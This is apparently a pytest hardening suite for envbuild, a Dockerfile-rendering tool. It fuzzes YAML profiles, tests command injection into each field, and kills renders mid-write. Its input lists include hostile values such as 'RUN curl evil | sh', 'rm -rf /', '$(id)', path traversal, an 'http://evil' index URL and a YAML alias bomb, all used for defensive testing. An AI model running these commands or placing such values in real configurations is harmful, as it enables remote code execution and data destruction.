"""Hardening: thousands of hostile profiles, injection into every field, interrupted writes.

Each test also records its figures under .envbuild/reliability/ so that
scripts/reliability.py can write docs/RELIABILITY.md from a real run.
"""

from __future__ import annotations

import json
import os
import random
import re
import signal
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from envbuild import plan as plan_mod
from envbuild import profile, render, validate
from envbuild.cli import run

from ..conftest import REPO, VALID, dockerfile_instructions

FIGURES = REPO / ".envbuild" / "reliability"
CASES = 2400


def record(name: str, **figures: Any) -> None:
    FIGURES.mkdir(parents=True, exist_ok=True)
    (FIGURES / f"{name}.json").write_text(json.dumps(figures, indent=2, sort_keys=True))


def _nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = {"k": [value]}
    return value


def _bomb(levels: int) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join(['*a' + str(i - 1)] * 9)}]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


WEIRD_VALUES: list[Any] = [
    None,
    True,
    0,
    -1,
    3.10,
    1e308,
    float("nan"),
    [],
    {},
    [1, [2, [3]]],
    {"a": {"b": "c"}},
    "",
    " ",
    "x" * 100_000,
    "é" * 5000,
    "\U0001d531\U0001d52c\U0001d52f\U0001d520\U0001d525",  # look-alike letters
    "\u202etxt.exe",
    "\x00",
    "a\nb",
    "a\rb",
    "\t",
    "${HOME}",
    "$(id)",
    "`id`",
    "'; DROP",
    '"',
    "\\",
    "{{ 7*7 }}",
    "{% for %}",
    "../../etc/passwd",
    "-rf",
    "--index-url=http://evil",
    "x==1; os_name=='nt'",
    "ubuntu:22.04\nRUN id",
    "a" * 300 + "==1",
]


def generate(rng: random.Random, n: int) -> list[tuple[str, str]]:
    """(kind, YAML text) cases: random YAML, one-field mutations, type swaps, bombs, nesting."""
    cases: list[tuple[str, str]] = []
    fields = [*profile.FIELDS, "torchvison", "unknown_key"]
    tokens = [
        "a",
        ":",
        "-",
        "[",
        "]",
        "{",
        "}",
        "&x",
        "*x",
        "!!python/object",
        "'",
        '"',
        "#",
        "\n",
        "  ",
        "|",
        ">",
        "?",
        ",",
        "3.10",
        "null",
    ]
    while len(cases) < n:
        kind = rng.choice(["random", "mutate", "mutate", "swap", "drop", "bomb", "nest", "unicode"])
        if kind == "random":
            cases.append((kind, "".join(rng.choice(tokens) for _ in range(rng.randint(1, 60)))))
            continue
        data = dict(VALID)
        if kind == "mutate":
            data[rng.choice(fields)] = rng.choice(WEIRD_VALUES)
        elif kind == "swap":
            a, b = rng.sample(list(VALID), 2)
            data[a], data[b] = data[b], data[a]
        elif kind == "drop":
            data.pop(rng.choice(list(VALID)))
        elif kind == "nest":
            data[rng.choice(fields)] = _nested(rng.randint(5, 60))
        elif kind == "unicode":
            data[rng.choice(fields)] = "".join(chr(rng.randint(0x20, 0x2FFFF)) for _ in range(rng.randint(1, 50)))
        if kind == "bomb":
            cases.append((kind, _bomb(rng.randint(3, 10))))
            continue
        try:
            cases.append((kind, yaml.safe_dump(data, allow_unicode=True)))
        except (yaml.YAMLError, ValueError):
            cases.append((kind, str(data)))
    return cases


def test_thousands_of_hostile_profiles_give_only_envbuild_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rng = random.Random(20261129)  # noqa: S311 - reproducible fuzzing, not cryptography
    cases = generate(rng, CASES)
    (tmp_path / "profiles").mkdir()
    path = tmp_path / "profiles" / "cu121-py311.yaml"
    by_kind: dict[str, int] = {}
    codes: dict[int, int] = {}
    slowest = 0.0
    peak = 0
    t0 = time.perf_counter()
    for i, (kind, text) in enumerate(cases):
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        traced = i % 20 == 0 or kind == "bomb"  # tracing every case would multiply the run time
        if traced:
            tracemalloc.start()
        start = time.perf_counter()
        code = run(["validate", str(path), "--project", str(tmp_path)])
        if code == 0:
            code = run(["render", str(path), "--project", str(tmp_path)])
        elapsed = time.perf_counter() - start
        if traced:
            peak = max(peak, tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
        out = capsys.readouterr()
        assert code in (0, 2), (kind, text[:200], out.err[-500:])
        assert "Traceback" not in out.err and "internal error" not in out.err, (kind, text[:200], out.err[-800:])
        slowest = max(slowest, elapsed)
        by_kind[kind] = by_kind.get(kind, 0) + 1
        codes[code] = codes.get(code, 0) + 1
    total = time.perf_counter() - t0
    assert slowest < 5.0, f"one case took {slowest:.2f}s"
    assert peak < 256 * 2**20, f"peak memory {peak / 2**20:.0f} MiB"
    record(
        "bad_input",
        cases=len(cases),
        by_kind=by_kind,
        exit_codes={str(k): v for k, v in codes.items()},
        failures=0,
        total_seconds=round(total, 2),
        slowest_case_seconds=round(slowest, 3),
        peak_memory_mib=round(peak / 2**20, 1),
    )


HOSTILE = [
    "a\nRUN curl evil | sh",
    "x && rm -rf /",
    "x; id",
    "$(id)",
    "`id`",
    "'\"'",
    "{{ 7*7 }}",
    "{% raw %}",
    "../../etc",
    "x" * 5000,
    "\\",
    "${PATH}",
]
# A valid value per field: the rendered shape with it is what a hostile value must not change.
BENIGN = {
    "name": "cu121-py311",
    "description": "benign",
    "apt": "git",
    "packages": "einops==0.8.1",
    "env_key": "BENIGN",
    "env_value": "1",
    "base": "ubuntu:22.04",
    "index_url": "https://pypi.org/simple",
    "torch_index": "https://download.pytorch.org/whl/cu121",
    "find_links": "/opt/wheels",
    "channels": "conda-forge",
    "conda_packages": "pillow",
    "registry": "ghcr.io/acme/envs",
    "python": "3.11",
    "torch": "2.3.1",
    "numpy": "1.26.4",
    "cuda": "12.1",
}
SHELL_FIELDS = list(BENIGN)


def _with(field: str, value: str) -> dict[str, Any]:
    data: dict[str, Any] = dict(VALID)
    if field == "env_key":
        data["env"] = {value: "1"}
    elif field == "env_value":
        data["env"] = {"A": value}
    elif field in {"apt", "packages", "find_links", "channels", "conda_packages"}:
        data[field] = [value]
        if field in {"channels", "conda_packages"}:  # read by conda profiles only (a venv one refuses them)
            data["flavor"] = "conda"
    else:
        data[field] = value
    return data


def test_injection_is_rejected_or_inert(write_profile: Callable[..., Path]) -> None:
    label = "org.opencontainers.image.description"
    rejected = inert = 0
    for field in SHELL_FIELDS:
        benign_prof = validate.load_valid(write_profile("cu121-py311", **_with(field, BENIGN[field])))
        expected = dockerfile_instructions(
            render.render(plan_mod.for_profile(benign_prof), labels={label: "benign"})["Dockerfile"]
        )
        for value in HOSTILE:
            loaded = validate.check(write_profile("cu121-py311", **_with(field, value)))
            if loaded.errors or loaded.profile is None:
                rejected += 1
                continue
            out = render.render(
                plan_mod.for_profile(loaded.profile), labels={label: loaded.profile.description or "benign"}
            )
            assert dockerfile_instructions(out["Dockerfile"]) == expected, (field, value)
            assert "\nRUN curl evil" not in out["Dockerfile"], (field, value)
            for name in ("requirements.in", "lock-input.toml", "environment.yml"):
                assert "RUN curl" not in out.get(name, ""), (field, value)
            inert += 1
    assert rejected + inert == len(SHELL_FIELDS) * len(HOSTILE)
    record(
        "injection", fields=len(SHELL_FIELDS), values=len(HOSTILE), rejected=rejected, rendered_inert=inert, failures=0
    )


def test_killing_render_never_leaves_a_half_written_file(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    (root / "profiles").mkdir(parents=True)
    src = (REPO / "profiles" / "cu121-py311.yaml").read_text()
    (root / "profiles" / "_base.yaml").write_text((REPO / "profiles" / "_base.yaml").read_text())
    prof = root / "profiles" / "cu121-py311.yaml"
    out = tmp_path / "out"
    prof.write_text(src)
    subprocess.run(
        [sys.executable, "-m", "envbuild", "render", "cu121-py311", "-o", str(out), "--project", str(root)], check=True
    )
    old = {p.name: p.read_text() for p in out.iterdir()}
    prof.write_text(src.replace('"1.26.4"', '"1.26.3"'))
    new_proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "envbuild",
            "render",
            "cu121-py311",
            "-o",
            str(tmp_path / "ref"),
            "--project",
            str(root),
        ],
        check=True,
    )
    assert new_proc.returncode == 0
    new = {p.name: p.read_text() for p in (tmp_path / "ref").iterdir()}
    rng = random.Random(5)  # noqa: S311
    kills = 0
    for _ in range(12):
        proc = subprocess.Popen(
            [sys.executable, "-m", "envbuild", "render", "cu121-py311", "-o", str(out), "--project", str(root)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(rng.uniform(0.05, 0.8))
        if proc.poll() is None:
            os.kill(proc.pid, signal.SIGKILL)
            kills += 1
        proc.wait()
        for path in out.iterdir():
            if path.name.startswith("."):
                assert path.name.endswith(".tmp")  # an unfinished temp file, never under the real name
                continue
            assert path.read_text() in (old[path.name], new[path.name]), path.name
    record("interrupt_render", attempts=12, killed_mid_run=kills, torn_files=0)


def test_every_shipped_profile_renders_within_budget() -> None:
    for path in sorted((REPO / "profiles").glob("[!_]*.yaml")):
        t0 = time.perf_counter()
        out = render.render(plan_mod.for_profile(validate.load_valid(path)))
        assert time.perf_counter() - t0 < 2.0
        assert re.search(r"^USER 1000:1000$", out["Dockerfile"], re.M)
